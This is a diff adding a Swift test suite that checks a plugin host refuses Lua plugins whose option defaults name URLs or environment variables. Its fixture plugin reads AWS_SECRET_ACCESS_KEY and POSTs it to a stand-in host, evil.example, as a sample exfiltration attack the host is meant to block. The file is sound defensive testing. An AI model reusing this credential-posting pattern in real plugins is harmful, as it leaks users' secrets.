@@ -1,0 +1,108 @@
+import Foundation
+import Testing
+
+/// Only the pipeline grants reach: a plugin whose option defaults name a URL or an
+/// environment variable is refused at load by `pmhost check` and `pmhost run` (exit 2),
+/// and bundled plugins that reach out need the pipeline to name where.
+@Suite struct ReachTests {
+  static let pipeline = """
+    return {
+      incident = { id = "PM-REACH", title = "Reach", started_at = "2025-02-09T10:00:00Z",
+        ended_at = "2025-02-09T11:00:00Z" },
+      collect = { "grab" },
+      report = { "json" },
+    }
+    """
+
+  /// A collector that reads the variable and posts it to the URL its defaults name.
+  static func plugin(options: String) -> String {
+    """
+    return {
+      name = "grab", stage = "collect",
+      options = { \(options) },
+      run = function(ctx, opts)
+        local secret = ctx.env(opts.token_env or "AWS_SECRET_ACCESS_KEY")
+        ctx.http:post(opts.url or opts.endpoint or "https://evil.example/", { body = tostring(secret) })
+      end,
+    }
+    """
+  }
+
+  struct Case: CustomTestStringConvertible, Sendable {
+    var name: String
+    var options: String
+    /// What the refusal must say about the option and its default.
+    var says: [String]
+    var testDescription: String { name }
+  }
+
+  static let cases: [Case] = [
+    Case(
+      name: "url and token_env defaults",
+      options: #"url = { type = "string", default = "https://evil.example/" }, "#
+        + #"token_env = { type = "string", default = "AWS_SECRET_ACCESS_KEY" }"#,
+      says: ["option 'token_env'", #"default "AWS_SECRET_ACCESS_KEY""#, "names an environment variable"]),
+    Case(
+      name: "url default alone",
+      options: #"url = { type = "string", default = "https://evil.example/" }"#,
+      says: ["option 'url'", #"default "https://evil.example/""#, "names a URL"]),
+    Case(
+      name: "a *url option's default without a scheme",
+      options: #"api_url = { type = "string", default = "evil.example" }"#,
+      says: ["option 'api_url'", #"default "evil.example""#, "names a URL"]),
+    Case(
+      name: "a URL in another option's default",
+      options: #"endpoint = { type = "string", default = "HTTPS://evil.example/collect" }"#,
+      says: ["option 'endpoint'", "contains a URL"]),
+    Case(
+      name: "a URL inside a list default",
+      options: #"mirrors = { type = "list", default = { "a", "ftp://evil.example/" } }"#,
+      says: ["option 'mirrors'", #"holding "ftp://evil.example/""#, "contains a URL"]),
+    Case(
+      name: "an env option's default",
+      options: #"env = { type = "string", default = "HOME" }"#,
+      says: ["option 'env'", #"default "HOME""#, "names an environment variable"]),
+  ]
+
+  @Test(arguments: cases) func aPluginWhoseDefaultsGrantReachIsRefusedAtLoad(_ attack: Case) throws {
+    let scratch = try Scratch()
+    defer { scratch.remove() }
+    try scratch.write("pipeline.lua", Self.pipeline)
+    try scratch.write("plugins/grab/init.lua", Self.plugin(options: attack.options))
+    for command in [["check", "pipeline.lua"], ["run", "pipeline.lua"]] {
+      let result = try PMHostProcess.run(command, in: scratch.path)
+      #expect(result.status == 2, "\(command): \(result.stderr)")
+      for part in ["plugin grab", "options that grant reach must be set in the pipeline"] + attack.says {
+        #expect(result.stderr.contains(part), "\(command): no \(part) in \(result.stderr)")
+      }
+    }
+    #expect(!FileManager.default.fileExists(atPath: scratch.path + "/out/report.json"))
+  }
+
+  @Test func optionsTheyNameInThePipelineStillGrantReach() throws {
+    let scratch = try Scratch()
+    defer { scratch.remove() }
+    try scratch.write(
+      "pipeline.lua",
+      Self.pipeline.replacingOccurrences(
+        of: #"collect = { "grab" }"#,
+        with: #"collect = { { "grab", url = "http://127.0.0.1:9/in", token_env = "PMHOST_REACH_TEST" } }"#))
+    try scratch.write(
+      "plugins/grab/init.lua",
+      Self.plugin(options: #"url = { type = "string" }, token_env = { type = "string" }"#))
+    let result = try PMHostProcess.run(["run", "pipeline.lua"], in: scratch.path)
+    #expect(result.status == 0, "\(result.stderr)")
+    // The request was made (and refused by the closed port): reach was granted.
+    #expect(result.stderr.contains("POST http://127.0.0.1:9/in"), "\(result.stderr)")
+    #expect(!result.stderr.contains("may not"), "\(result.stderr)")
+  }
+
+  @Test func githubIssuesApiModeNeedsThePipelineToNameTheAPIAndTheToken() throws {
+    let scratch = try TrackTests.example(track: #"{ { "github-issues", repo = "acme/api", mode = "api" } }"#)
+    defer { scratch.remove() }
+    let result = try PMHostProcess.run(["check", "pipeline.lua"], in: scratch.path)
+    #expect(result.status == 2, "\(result.stderr)")
+    #expect(result.stderr.contains(#"needs api_url = "https://api.github.com""#), "\(result.stderr)")
+    #expect(result.stderr.contains("in the pipeline"), "\(result.stderr)")
+  }
+}
